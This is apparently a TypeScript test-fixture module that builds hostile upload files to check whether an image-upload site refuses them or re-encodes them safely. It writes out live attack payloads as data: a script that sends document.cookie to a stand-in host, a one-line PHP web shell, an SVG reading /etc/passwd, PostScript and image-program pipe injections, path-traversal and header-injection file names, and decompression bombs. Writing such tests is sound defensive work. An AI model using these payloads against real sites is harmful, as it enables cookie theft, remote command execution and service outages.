import { randomBytes } from 'node:crypto';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A mark in a stranger's file. No file that the site serves may contain its bytes. */
export const mark = 'windfall-hostile-mark';
const script = `<script>/* ${mark} */fetch('https://example.org/'+document.cookie)</script>`;

/** Matches the message of each reason for which the site refuses a file. */
const messages = {
  kind: /not a photograph or drawing/,
  damaged: /damaged or not complete/,
  pixels: /more than 50 million pixels/,
  small: /smaller than 64 by 64/,
  heic: /HEIC format/,
  empty: /file is empty/,
  large: /larger than 20 MB/,
};

/**
 * A file and how it is sent. `becomes` is 'picture' if the site encodes the file anew; otherwise it matches
 * the message with which the site refuses the file.
 */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  becomes: 'picture' | RegExp;
  type?: string;
  fileName?: string;
}

const text = (content: string) => Buffer.from(content, 'utf8');
const noise = (width: number, height: number) =>
  sharp({
    create: {
      width,
      height,
      channels: 3,
      background: '#c8253b',
      noise: { type: 'gaussian', mean: 128, sigma: 20 },
    },
  });

function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const frame = Buffer.alloc(8 + body.length);
  frame.writeUInt32BE(data.length, 0);
  body.copy(frame, 4);
  frame.writeUInt32BE(crc32(body), 4 + body.length);
  return frame;
}

const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/**
 * Returns a grey PNG of one bit for each pixel, of any size. The file is 1,000 times smaller than its
 * pixels.
 */
function flatPng(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const pixels = Buffer.alloc(rows * (1 + Math.ceil(Math.min(width, 100_000) / 8)));
  return Buffer.concat([
    pngHead,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(pixels)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Returns a PNG with further chunks after its header. */
function withChunks(png: Buffer, ...chunks: Buffer[]): Buffer {
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), ...chunks, png.subarray(afterHeader)]);
}

/** Returns a JPEG with a further segment after its start. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
}

/** Returns a JPEG whose frame claims another size. */
function claiming(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(height, frame + 5);
  changed.writeUInt16BE(width, frame + 7);
  return changed;
}

const ftyp = (brand: string, more: Buffer = Buffer.alloc(200)) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    text(`ftyp${brand}`),
    Buffer.alloc(4),
    text(`${brand}mif1`),
    more,
  ]);

const zip = Buffer.concat([
  Buffer.from('504b0304140000000000', 'hex'),
  Buffer.alloc(16),
  Buffer.from([10, 0, 0, 0]),
  text(`index.html${script}`),
  Buffer.from('504b0506', 'hex'),
  Buffer.alloc(18),
]);

/**
 * Returns the hostile files, at least one for each known kind of attack by an upload. All are generated
 * here.
 */
export async function makeHostileFiles(): Promise<HostileFile[]> {
  // The picture is hardly larger than the smallest accepted size, because encoding takes most of the test's
  // time.
  const jpeg = await noise(96, 64).jpeg().toBuffer();
  const png = await noise(72, 64).png().toBuffer();
  const webp = await noise(72, 64).webp().toBuffer();
  const avif = await noise(72, 64).avif({ effort: 0 }).toBuffer();
  const exif = {
    IFD0: { ImageDescription: `${mark} ${script}`, Artist: mark },
    IFD3: {
      GPSLatitudeRef: 'N',
      GPSLatitude: '51/1 8/1 30/1',
      GPSLongitudeRef: 'W',
      GPSLongitude: '2/1 42/1 0/1',
    },
  };
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="">${script}</rdf:Description></rdf:RDF></x:xmpmeta>`;
  const frames = { raw: { width: 64, height: 192, channels: 3, pageHeight: 64 } } as const;
  const animation = randomBytes(64 * 192 * 3);
  const refused = (name: string, bytes: Buffer, becomes: RegExp, more: Partial<HostileFile> = {}) => ({
    name,
    bytes,
    becomes,
    ...more,
  });
  const accepted = (name: string, bytes: Buffer, more: Partial<HostileFile> = {}) => ({
    name,
    bytes,
    becomes: 'picture' as const,
    ...more,
  });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(1)">${script}</svg>`;
  const riff = (kind: string) =>
    Buffer.concat([text('RIFF'), Buffer.from([200, 0, 0, 0]), text(kind), Buffer.alloc(200)]);

  return [
    refused('a drawing with a script', text(svg), messages.kind),
    refused('a drawing with a declaration', text(`<?xml version="1.0"?>${svg}`), messages.kind),
    refused('a drawing that says it is a JPEG', text(svg), messages.kind, {
      type: 'image/jpeg',
      fileName: 'me.jpg',
    }),
    refused('a drawing packed with gzip', gzipSync(svg), messages.kind, { fileName: 'me.svgz' }),
    refused(
      'a drawing with entities that expand',
      text(
        `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>`,
      ),
      messages.kind,
    ),
    refused(
      'a drawing that reads a file',
      text(`<svg><image href="file:///etc/passwd"/></svg>`),
      messages.kind,
    ),
    refused('an HTML page', text(`<!doctype html>${script}`), messages.kind, { fileName: 'beach.jpg' }),
    refused('an HTML page with a byte order mark', text(`\uFEFF<html>${script}`), messages.kind, {
      type: 'image/png',
    }),
    refused('a script', text(`alert('${mark}')`), messages.kind, { fileName: 'beach.jpg.js' }),
    refused('a program for the server', text(`<?php system($_GET['c']); // ${mark}`), messages.kind),
    refused('a script that begins as a GIF', text(`GIF89a/*${mark}*/=1;alert(1)`), messages.kind),
    refused('a GIF', await noise(80, 80).gif().toBuffer(), messages.kind),
    refused('an animated GIF', await sharp(animation, frames).gif().toBuffer(), messages.kind),
    refused('a BMP', Buffer.concat([text('BM'), Buffer.alloc(300)]), messages.kind),
    refused('a TIFF', await noise(80, 80).tiff().toBuffer(), messages.kind),
    refused('an icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(300)]), messages.kind),
    refused('a Photoshop file', Buffer.concat([text('8BPS'), Buffer.alloc(300)]), messages.kind),
    refused('a PDF', text(`%PDF-1.7\n/JS (${mark})`), messages.kind),
    refused('a PDF that contains a JPEG', Buffer.concat([text('%PDF-1.7\n'), jpeg]), messages.kind),
    refused('PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'), messages.kind),
    refused(
      'commands of a picture program',
      text('push graphic-context\nimage over 0,0 0,0 "|id"'),
      messages.kind,
    ),
    refused('an archive', zip, messages.kind),
    refused(
      'a program for Linux',
      Buffer.concat([Buffer.from([0x7f]), text('ELF'), Buffer.alloc(300)]),
      messages.kind,
    ),
    refused('a program for Windows', Buffer.concat([text('MZ'), Buffer.alloc(300)]), messages.kind),
    refused('a video', ftyp('isom'), messages.kind),
    refused('a sound file', riff('WAVE'), messages.kind),
    refused('a video in RIFF', riff('AVI '), messages.kind),
    refused('a portable pixmap', text(`P6 100 100 255\n${'a'.repeat(30_000)}`), messages.kind),
    refused(
      'a Radiance picture',
      text('#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 100 +X 100\n'),
      messages.kind,
    ),
    refused('a FITS file', text('SIMPLE  =                    T'.padEnd(2880)), messages.kind),
    refused(
      'a picture in libvips’s own format',
      Buffer.concat([Buffer.from('08f2a6b6', 'hex'), Buffer.alloc(300)]),
      messages.kind,
    ),
    refused(
      'JPEG 2000',
      Buffer.concat([Buffer.from('0000000c6a5020200d0a870a', 'hex'), ftyp('jp2 ')]),
      messages.kind,
    ),
    refused(
      'JPEG XL',
      Buffer.concat([Buffer.from('0000000c4a584c200d0a870a', 'hex'), Buffer.alloc(300)]),
      messages.kind,
    ),
    refused(
      'a form with a file in it',
      Buffer.concat([text('--x\r\nContent-Disposition: form-data\r\n\r\n'), jpeg]),
      messages.kind,
      { type: 'multipart/form-data; boundary=x' },
    ),
    refused('a photograph of an iPhone', ftyp('heic'), messages.heic),
    refused('a series of photographs of an iPhone', ftyp('hevc'), messages.heic),
    refused('an empty file', Buffer.alloc(0), messages.empty),
    refused('one byte', Buffer.from([0xff]), messages.kind),
    refused('noise', randomBytes(100_000).fill(1, 0, 4), messages.kind),
    refused('a megabyte of zeros', Buffer.alloc(1_000_000), messages.kind),
    refused(
      '20 MB and a byte',
      Buffer.concat([jpeg, Buffer.alloc(20_000_001 - jpeg.length)]),
      messages.large,
    ),
    refused('50 MB', Buffer.concat([jpeg, Buffer.alloc(50_000_000)]), messages.large),

    refused('half a JPEG', jpeg.subarray(0, jpeg.length / 2), messages.damaged),
    refused('the head of a JPEG', jpeg.subarray(0, 40), messages.damaged),
    refused(
      'a JPEG with a segment of a wrong length',
      withSegment(jpeg, 0xe1, Buffer.alloc(0)).fill(0xff, 4, 6),
      messages.damaged,
    ),
    refused('a JPEG with scrambled pixels', scrambled(jpeg), messages.damaged),
    refused('a JPEG that claims 65,500 by 65,500', claiming(jpeg, 65_500, 65_500), messages.pixels),
    refused('a JPEG that claims to be larger than it is', claiming(jpeg, 1_000, 1_000), messages.damaged),
    refused('a PNG that grows to 144 million pixels', flatPng(12_000, 12_000), messages.pixels),
    refused('a PNG that claims two billion rows', flatPng(1_000, 2_147_483_647, 10), /damaged|pixels/),
    refused('a PNG without a size', flatPng(0, 0, 1), messages.damaged),
    refused('a PNG of a pixel', flatPng(1, 1), messages.small),
    refused('a PNG a pixel too low', flatPng(200, 63), messages.small),
    refused('a strip of 20,001 pixels', flatPng(20_001, 64), messages.pixels),
    refused('half a PNG', png.subarray(0, png.length / 2), messages.damaged),
    refused('a PNG with a wrong checksum', Buffer.from(png).fill(0x55, 29, 33), messages.damaged),
    refused('a PNG with fewer rows than it says', flatPng(200, 200, 20), messages.damaged),
    refused('half a WebP', webp.subarray(0, webp.length / 2), messages.damaged),
    refused('the head of a WebP', webp.subarray(0, 16), /damaged|not a photograph/),
    refused('a WebP of zeros', Buffer.concat([webp.subarray(0, 16), Buffer.alloc(300)]), messages.damaged),
    refused('half an AVIF', avif.subarray(0, avif.length / 2), messages.damaged),
    refused('an AVIF of zeros', ftyp('avif'), messages.damaged),

    accepted(
      'a JPEG with a place, a name and a script in its EXIF',
      await sharp(jpeg).withExif(exif).jpeg().toBuffer(),
    ),
    accepted('a JPEG with a script in its XMP', await sharp(jpeg).withXmp(xmp).jpeg().toBuffer()),
    accepted('a JPEG with a colour profile', await sharp(jpeg).withIccProfile('p3').jpeg().toBuffer()),
    accepted('a JPEG with a page in a comment', withSegment(jpeg, 0xfe, text(script))),
    accepted('a JPEG with a page after its end', Buffer.concat([jpeg, text(script)])),
    accepted('a JPEG with an archive after its end', Buffer.concat([jpeg, zip])),
    accepted('a JPEG with IPTC metadata', withSegment(jpeg, 0xed, text(`Photoshop 3.0\0${script}`))),
    accepted(
      'a JPEG that lies on its side',
      await sharp(jpeg).withMetadata({ orientation: 6 }).jpeg().toBuffer(),
    ),
    accepted('a JPEG in CMYK', await noise(64, 64).toColourspace('cmyk').jpeg().toBuffer()),
    accepted('a flat PNG that is stored in two widths', flatPng(400, 64)),
    accepted('a progressive JPEG', await noise(64, 64).jpeg({ progressive: true }).toBuffer()),
    accepted('a JPEG that says it is a page', withSegment(jpeg, 0xfe, text('1')), {
      type: 'text/html',
      fileName: 'index.html',
    }),
    accepted('a JPEG that says it is JSON', withSegment(jpeg, 0xfe, text('2')), { type: 'application/json' }),
    accepted('a JPEG named as a path', withSegment(jpeg, 0xfe, text('3')), {
      fileName: '../../../etc/passwd',
    }),
    accepted('a JPEG named as a script', withSegment(jpeg, 0xfe, text('4')), {
      fileName: '<script>alert(1)</script>.jpg',
    }),
    accepted('a JPEG with a name of many lines', withSegment(jpeg, 0xfe, text('5')), {
      fileName: 'a\r\nSet-Cookie: a=b\r\n\u202Egpj.exe',
    }),
    accepted('a JPEG with a name of 500 letters', withSegment(jpeg, 0xfe, text('6')), {
      fileName: 'ä'.repeat(500),
    }),
    accepted(
      'a PNG with a script in a text chunk',
      withChunks(png, chunk('tEXt', text(`Comment\0${script}`))),
    ),
    accepted(
      'a PNG with a compressed text that expands',
      withChunks(
        png,
        chunk('zTXt', Buffer.concat([text('Comment\0\0'), deflateSync(Buffer.alloc(16_000_000, mark))])),
      ),
    ),
    accepted('a PNG with a script after its end', Buffer.concat([png, text(script)])),
    accepted('an animated PNG', withChunks(png, chunk('acTL', Buffer.from([0, 0, 0, 1, 0, 0, 0, 0])))),
    accepted('a PNG of 16 bits', await noise(64, 64).toColourspace('rgb16').png().toBuffer()),
    accepted('a PNG with transparency', await noise(64, 64).ensureAlpha(0.5).png().toBuffer()),
    accepted('a greyscale PNG', await noise(64, 64).greyscale().png().toBuffer()),
    accepted('an animated WebP', await sharp(animation, frames).webp().toBuffer()),
    accepted('a WebP with EXIF data', await sharp(webp).withExif(exif).webp().toBuffer()),
    accepted('an AVIF with EXIF data', await sharp(avif).withExif(exif).avif({ effort: 0 }).toBuffer()),
  ];
}

/** Returns a JPEG with an intact header and damaged pixels. */
function scrambled(jpeg: Buffer): Buffer {
  const changed = Buffer.from(jpeg);
  const start = changed.indexOf(Buffer.from([0xff, 0xda])) + 20;
  for (let at = start; at < changed.length - 2; at += 7) changed[at] = 0xff;
  return changed;
}
